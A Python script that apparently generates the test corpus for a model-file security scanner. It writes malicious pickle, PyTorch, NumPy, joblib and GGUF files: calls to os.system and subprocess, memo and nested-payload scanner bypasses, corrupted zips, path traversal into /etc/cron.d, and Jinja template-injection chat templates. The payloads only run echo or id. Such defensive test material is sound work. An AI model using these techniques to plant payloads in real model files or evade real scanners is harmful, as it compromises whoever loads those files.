#!/usr/bin/python3
"""Builds the scanner's labelled test corpus: test/corpus/{malicious,benign}/.

Run with Debian's interpreter: /usr/bin/python3 test/corpus/make_corpus.py
Nothing here is ever loaded by the tests; files are only written. Malicious payloads run
harmless commands (echo) if someone does load them.

Benign files use the real torch, numpy, scikit-learn and joblib when they are installed
(Debian: python3-torch python3-numpy python3-sklearn python3-joblib); otherwise stand-in
modules with the same global names are used, which produce the same opcode shapes.
"""
import base64
import json
import io
import os
import pickle
import struct
import sys
import tarfile
import zipfile
from collections import OrderedDict

ROOT = os.path.dirname(os.path.abspath(__file__))
MAL = os.path.join(ROOT, "malicious")
BEN = os.path.join(ROOT, "benign")
for d in (MAL, BEN):
    os.makedirs(d, exist_ok=True)
    for f in os.listdir(d):
        os.remove(os.path.join(d, f))


def write(folder, name, data):
    with open(os.path.join(folder, name), "wb") as f:
        f.write(data)


def call_pickle(module, name, arg, proto=4):
    """The bytes pickle.dumps writes for an object whose __reduce__ returns (module.name, (arg,)).

    Written out opcode by opcode, so that no real module has to be touched to produce it.
    """
    a = pickle.dumps(arg, protocol=proto)
    a = a[2:-1] if proto >= 2 else a[:-1]  # the argument's opcodes without PROTO and STOP
    if proto >= 4:
        body = su(module) + su(name) + b"\x93" + a + b"\x85R"
        return b"\x80" + bytes([proto]) + body + b"."
    head = b"\x80" + bytes([proto]) if proto >= 2 else b""
    glob = b"c" + module.encode() + b"\n" + name.encode() + b"\n"
    tup = a + b"\x85" if proto >= 2 else b"(" + a + b"t"
    return head + glob + tup + b"R."


def su(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


# ---------------------------------------------------------------- malicious: direct calls
DIRECT = [
    ("os", "system"), ("posix", "system"), ("subprocess", "Popen"), ("subprocess", "check_output"),
    ("builtins", "eval"), ("builtins", "exec"), ("builtins", "__import__"), ("builtins", "compile"),
    ("builtins", "open"), ("builtins", "getattr"), ("runpy", "_run_code"), ("pty", "spawn"),
    ("pip", "main"), ("pkgutil", "resolve_name"), ("uuid", "_get_command_stdout"),
    ("_osx_support", "_read_output"), ("_aix_support", "_read_cmd_output"), ("imaplib", "IMAP4_stream"),
    ("ctypes", "CDLL"), ("cProfile", "run"), ("profile", "run"), ("doctest", "debug_script"),
    ("io", "FileIO"), ("_io", "FileIO"), ("logging", "FileHandler"), ("urllib.request", "urlopen"),
    ("ssl", "get_server_certificate"), ("socket", "create_connection"), ("webbrowser", "open"),
    ("operator", "attrgetter"), ("operator", "methodcaller"), ("_operator", "itemgetter"),
    ("functools", "partial"), ("types", "CodeType"), ("marshal", "loads"), ("importlib", "import_module"),
    ("shutil", "rmtree"), ("timeit", "timeit"), ("pydoc", "pipepager"), ("code", "InteractiveInterpreter.runcode"),
    ("trace", "Trace.runctx"), ("idlelib.pyshell", "ModifiedInterpreter.runcode"), ("lib2to3.pgen2.grammar", "Grammar.loads"),
    ("multiprocessing.util", "spawnv_passfds"), ("asyncio.unix_events", "_UnixSubprocessTransport._start"),
    ("torch.utils.collect_env", "run"), ("torch.serialization", "load"), ("torch", "load"),
    ("torch.storage", "_load_from_bytes"), ("torch.jit.unsupported_tensor_ops", "execWrapper"),
    ("torch._inductor.codecache", "compile_file"), ("torch.utils._config_module", "ConfigModule.load_config"),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers"), ("numpy", "load"),
    ("numpy.testing._private.utils", "runstring"), ("joblib", "load"), ("pickle", "loads"), ("_pickle", "loads"),
    ("dill", "loads"), ("cloudpickle", "loads"), ("mlflow.projects.backend.local", "_run_entry_point"),
    ("requests.api", "get"), ("aiohttp.client", "request"), ("httplib", "HTTPConnection"), ("sys", "exit"),
    ("tempfile", "mkstemp"), ("glob", "glob"), ("signal", "signal"), ("_pyrepl.pager", "pipe_pager"),
]
for module, name in DIRECT:
    write(MAL, f"direct-{module}.{name}.pkl", call_pickle(module, name, "echo pwned"))

# every protocol, os.system
for proto in range(0, 6):
    write(MAL, f"protocol{proto}-os.system.pkl", call_pickle("os", "system", "echo pwned", proto))


# ---------------------------------------------------------------- malicious: crafted opcode streams
# STACK_GLOBAL with operands fetched through the memo (BINPUT/BINGET, MEMOIZE/LONG_BINGET)
memo1 = b"\x80\x04" + su("os") + b"q\x00" + b"0" + su("system") + b"q\x01" + b"0" + b"h\x00h\x01\x93" + su("echo pwned") + b"\x85R."
write(MAL, "memo-binget-stack-global.pkl", memo1)
memo2 = b"\x80\x04" + su("posix") + b"\x94" + su("system") + b"\x94" + b"00" + b"j\x00\x00\x00\x00j\x01\x00\x00\x00\x93" + su("id") + b"\x85R."
write(MAL, "memo-memoize-long-binget.pkl", memo2)
mixed = b"\x80\x04" + su("x") + b"\x94" + su("subprocess") + b"q\x05" + su("getoutput") + b"\x94" + b"0" + b"h\x05" + b"h\x02" + b"\x93" + su("id") + b"\x85R."
write(MAL, "memo-put-and-memoize-mixed.pkl", mixed)
# STACK_GLOBAL whose module name is computed by a call: unresolvable statically
computed = (b"\x80\x04" + su("builtins") + su("str") + b"\x93" + su("os") + b"\x85R" + su("system") + b"\x93" + su("id") + b"\x85R.")
write(MAL, "stack-global-computed-operand.pkl", computed)
# BUILD that sets attributes on an allowlisted class object
build = b"\x80\x04" + su("collections") + su("OrderedDict") + b"\x93" + b"}" + su("__reduce__") + su("x") + b"s" + b"b."
write(MAL, "build-on-allowlisted-global.pkl", build)
# Reaching builtins through a dunder attribute of an allowlisted module
write(MAL, "dunder-numpy-builtins.pkl", b"\x80\x04" + su("numpy") + su("__builtins__") + b"\x93" + b".")
write(MAL, "dunder-attribute-chain.pkl", b"\x80\x04" + su("torch") + su("Tensor.__class__.__subclasses__") + b"\x93" + b")R.")
# GLOBAL and INST opcodes (protocol 0 text forms)
write(MAL, "inst-opcode-os-system.pkl", b"(S'echo pwned'\nios\nsystem\n.")
write(MAL, "obj-opcode-subprocess.pkl", b"\x80\x02(csubprocess\nPopen\nS'id'\no.")
write(MAL, "newobj-subprocess.pkl", b"\x80\x02csubprocess\nPopen\nX\x02\x00\x00\x00id\x85\x81.")
write(MAL, "ext-code.pkl", b"\x80\x02\x82\x01)R.")
# Several pickles in one stream: a benign one first, the payload second
write(MAL, "second-pickle-in-stream.pkl", pickle.dumps({"weights": [1.0, 2.0]}, protocol=4) + call_pickle("os", "system", "echo pwned"))
# Parser divergence: trailing bytes, and a truncated stream whose prefix already calls os.system
payload = call_pickle("os", "system", "echo pwned", 2)
write(MAL, "trailing-bytes-hide-payload.pkl", pickle.dumps([1, 2, 3], protocol=2) + b"\x00\x01garbage" + payload)
write(MAL, "truncated-after-reduce.pkl", payload[:-1])
# Nested payloads: raw, base64 and hex pickles inside a benign-looking call of a loader
inner = call_pickle("os", "system", "echo pwned")
write(MAL, "nested-pickle-loads.pkl", call_pickle("pickle", "loads", inner))
write(MAL, "nested-base64-string.pkl", pickle.dumps({"blob": base64.b64encode(inner).decode()}, protocol=4))
write(MAL, "nested-hex-string.pkl", pickle.dumps({"blob": inner.hex()}, protocol=4))
write(MAL, "nested-raw-bytes.pkl", pickle.dumps({"blob": inner}, protocol=4))

# Unknown (non-allowlisted) callables that are called: high
write(MAL, "unknown-callable-called.pkl", call_pickle("totally_unknown_pkg.helpers", "do_things", 1))


# ---------------------------------------------------------------- containers
def torch_zip(name, members, *, compress=zipfile.ZIP_STORED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compress) as z:
        for n, data in members:
            z.writestr(n, data)
    return buf.getvalue()


evil = call_pickle("os", "system", "echo pwned", 2)
write(MAL, "torch-zip-data-pkl.pt", torch_zip("m", [("archive/data.pkl", evil), ("archive/version", b"3\n")]))
write(MAL, "torch-zip-hidden-member.pt", torch_zip("m", [("archive/data.pkl", pickle.dumps({}, protocol=2)), ("archive/data/0", b"\x00" * 64), ("archive/extra/.cache", evil)]))
write(MAL, "torch-zip-deflated.pt", torch_zip("m", [("archive/data.pkl", evil)], compress=zipfile.ZIP_DEFLATED))
z = bytearray(torch_zip("m", [("archive/data.pkl", evil)]))
# Break the CRC in both headers and set odd flag bits, as bypasses did.
lh = z.find(b"PK\x03\x04")
z[lh + 14:lh + 18] = b"\xde\xad\xbe\xef"
z[lh + 6] |= 0x02
cd = z.find(b"PK\x01\x02")
z[cd + 16:cd + 20] = b"\xde\xad\xbe\xef"
write(MAL, "torch-zip-bad-crc-flags.pt", bytes(z))
z = bytearray(torch_zip("m", [("archive/data.pkl", evil)]))
lh = z.find(b"PK\x03\x04")
name_at = lh + 30
z[name_at:name_at + len("archive/data.pkl")] = b"archive/data.PKL"
write(MAL, "torch-zip-name-mismatch.pt", bytes(z))
write(MAL, "zip-path-traversal.zip", torch_zip("m", [("../../etc/cron.d/job", b"* * * * * root id\n")]))
write(MAL, "zip-no-directory.pt", torch_zip("m", [("archive/data.pkl", evil)])[: -22 - 60])
# Legacy PyTorch: magic number, protocol, sys info, then the model pickle
MAGIC = 0x1950A86A20F9469CFC6C
legacy = b"".join(pickle.dumps(x, protocol=2) for x in (MAGIC, 1001, {"little_endian": True})) + evil + pickle.dumps(["0"], protocol=2) + b"\x00" * 32
write(MAL, "torch-legacy-payload.pt", legacy)
write(MAL, "torch-legacy-magic-by-reduce.pt", call_pickle("builtins", "eval", str(MAGIC), 2) + evil)


# NumPy object arrays
def npy(descr, shape, body):
    header = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode()
    pad = 64 - ((10 + len(header) + 1) % 64)
    header += b" " * pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + body


write(MAL, "numpy-object-array.npy", npy("|O", (1,), evil))
npz = io.BytesIO()
with zipfile.ZipFile(npz, "w") as zz:
    zz.writestr("arr_0.npy", npy("|O", (1,), evil))
write(MAL, "numpy-npz-object.npz", npz.getvalue())
# joblib-style file (a plain pickle under .joblib)
write(MAL, "joblib-payload.joblib", call_pickle("os", "system", "echo pwned"))
# tar with traversal and a payload member
tb = io.BytesIO()
with tarfile.open(fileobj=tb, mode="w", format=tarfile.USTAR_FORMAT) as t:
    for n, data in [("../escape.txt", b"x"), ("model/pickle", evil)]:
        info = tarfile.TarInfo(n)
        info.size = len(data)
        t.addfile(info, io.BytesIO(data))
write(MAL, "tar-traversal-and-pickle.tar", tb.getvalue())

# ---------------------------------------------------------------- benign
for proto in range(0, 6):
    data = {"name": "model", "layers": [1, 2, 3], "lr": 0.001, "flags": (True, False, None), "blob": b"\x00\x01", "nested": {"a": [1.5, -2]}}
    write(BEN, f"plain-data-protocol{proto}.pkl", pickle.dumps(data, protocol=proto))
write(BEN, "ordered-dict.pkl", pickle.dumps(OrderedDict(a=1, b=2), protocol=2))
write(BEN, "several-pickles.pkl", pickle.dumps([1], protocol=4) + pickle.dumps({"x": 2}, protocol=4))
write(BEN, "plain-zip-with-json.zip", torch_zip("m", [("config.json", b'{"a": 1}'), ("README.md", b"# model\n")]))
write(BEN, "numpy-float-array.npy", npy("<f4", (4,), struct.pack("<4f", 1, 2, 3, 4)))


def safetensors(tensors, metadata=None):
    """Writes the safetensors layout by hand: u64 header length, JSON header, tensor bytes."""
    header, data, off = {}, b"", 0
    for name, (dtype, shape, raw) in tensors.items():
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [off, off + len(raw)]}
        data += raw
        off += len(raw)
    if metadata:
        header["__metadata__"] = metadata
    h = json.dumps(header, separators=(",", ":")).encode()
    h += b" " * ((8 - len(h) % 8) % 8)
    return struct.pack("<Q", len(h)) + h + data


def gguf(kv, tensors=(), version=3):
    """Writes a GGUF file by hand: magic, version, counts, metadata, tensor table, aligned data."""
    def gstr(x):
        b = x.encode()
        return struct.pack("<Q", len(b)) + b

    out = b"GGUF" + struct.pack("<IQQ", version, len(tensors), len(kv))
    for k, v in kv:
        out += gstr(k)
        if isinstance(v, str):
            out += struct.pack("<I", 8) + gstr(v)
        else:
            out += struct.pack("<II", 4, v)
    data, off = b"", 0
    for name, raw in tensors:
        out += gstr(name) + struct.pack("<I", 1) + struct.pack("<Q", len(raw) // 4) + struct.pack("<I", 0) + struct.pack("<Q", off)
        data += raw + b"\x00" * ((32 - len(raw) % 32) % 32)
        off = len(data)
    out += b"\x00" * ((32 - len(out) % 32) % 32)
    return out + data


CHATML = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}"
          "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}")
LLAMA3 = ("{%- set ns = namespace(system='') -%}{%- for m in messages -%}{%- if m.role == 'system' -%}{%- set ns.system = m.content -%}"
          "{%- else -%}{{ '<|start_header_id|>' + m.role + '<|end_header_id|>\\n\\n' + m.content | trim + '<|eot_id|>' }}{%- endif -%}{%- endfor -%}")
weights = [("blk.0.attn.weight", struct.pack("<8f", *range(8)))]
write(BEN, "chatml.gguf", gguf([("general.architecture", "llama"), ("general.alignment", 32), ("tokenizer.chat_template", CHATML)], weights))
write(BEN, "llama3-template.gguf", gguf([("general.architecture", "llama"), ("tokenizer.chat_template", LLAMA3)], weights))
SSTI = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
SSTI2 = "{% for m in messages %}{{ cycler.__init__.__globals__.os.popen('id').read() }}{% endfor %}"
SSTI3 = "{{ self._TemplateReference__context.joiner.__init__.__globals__['os'].popen('id').read() }}"
write(MAL, "gguf-template-ssti-class-mro.gguf", gguf([("general.architecture", "llama"), ("tokenizer.chat_template", SSTI)], weights))
write(MAL, "gguf-template-ssti-cycler-globals.gguf", gguf([("tokenizer.chat_template", SSTI2)], weights))
write(MAL, "gguf-template-ssti-named-template.gguf", gguf([("tokenizer.chat_template.tool_use", SSTI3)]))

write(BEN, "model.safetensors", safetensors(
    {"w": ("F32", [2, 2], struct.pack("<4f", 1, 2, 3, 4)), "b": ("F16", [2], b"\x00\x3c\x00\x40")},
    {"format": "pt"},
))

try:
    import numpy as np  # noqa: E402
    import torch  # noqa: E402

    REAL = True
except ImportError:
    REAL = False

if REAL:
    import joblib  # noqa: E402
    from sklearn.ensemble import RandomForestClassifier  # noqa: E402
    from sklearn.linear_model import LogisticRegression  # noqa: E402
    from sklearn.pipeline import Pipeline  # noqa: E402
    from sklearn.preprocessing import StandardScaler  # noqa: E402

    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Linear(8, 4), torch.nn.ReLU(), torch.nn.Linear(4, 2))
    for i, (path, legacy_fmt) in enumerate([("torch-state-dict.pt", False), ("torch-state-dict-legacy.pt", True)]):
        b = io.BytesIO()
        torch.save(net.state_dict(), b, _use_new_zipfile_serialization=not legacy_fmt)
        write(BEN, path, b.getvalue())
    b = io.BytesIO()
    torch.save({"epoch": 3, "model": net.state_dict(), "optimizer": torch.optim.SGD(net.parameters(), lr=0.1).state_dict()}, b)
    write(BEN, "torch-checkpoint.ckpt", b.getvalue())
    X = np.random.RandomState(0).rand(40, 3)
    y = (X[:, 0] > 0.5).astype(int)
    pipe = Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression())]).fit(X, y)
    forest = RandomForestClassifier(n_estimators=3, max_depth=2, random_state=0).fit(X, y)
    write(BEN, "sklearn-pipeline.pkl", pickle.dumps(pipe, protocol=4))
    write(BEN, "sklearn-forest-protocol2.pkl", pickle.dumps(forest, protocol=2))
    b = io.BytesIO()
    joblib.dump(forest, b)
    write(BEN, "sklearn-forest.joblib", b.getvalue())
    b = io.BytesIO()
    np.save(b, np.arange(10, dtype=np.float32))
    write(BEN, "numpy-real.npy", b.getvalue())
    b = io.BytesIO()
    np.save(b, np.array([{"a": 1}, [1, 2]], dtype=object), allow_pickle=True)
    write(BEN, "numpy-object-builtins.npy", b.getvalue())
    b = io.BytesIO()
    np.savez(b, w=np.ones((2, 2)), b=np.zeros(2))
    write(BEN, "numpy-real.npz", b.getvalue())
    write(BEN, "numpy-array-protocol2.pkl", pickle.dumps(np.ones((3, 3)), protocol=2))
    write(BEN, "numpy-array-protocol5.pkl", pickle.dumps(np.ones((3, 3)), protocol=5))
    for method in ("zlib", "gzip"):
        b = io.BytesIO()
        joblib.dump(forest, b, compress=(method, 3))
        write(BEN, f"sklearn-forest-{method}.joblib", b.getvalue())

    class Evil:
        """Pickles as a call of os.system; this script never loads what it writes."""

        def __reduce__(self):
            return (os.system, ("echo pwned",))

    b = io.BytesIO()
    joblib.dump([np.arange(100.0), Evil()], b)
    write(MAL, "joblib-payload-after-inline-array.joblib", b.getvalue())
    for method in ("zlib", "gzip"):
        b = io.BytesIO()
        joblib.dump([np.arange(10.0), Evil()], b, compress=(method, 3))
        write(MAL, f"joblib-payload-{method}.joblib", b.getvalue())
print(f"corpus written ({'real libraries' if REAL else 'stand-ins only'}): "
      f"{len(os.listdir(MAL))} malicious, {len(os.listdir(BEN))} benign")
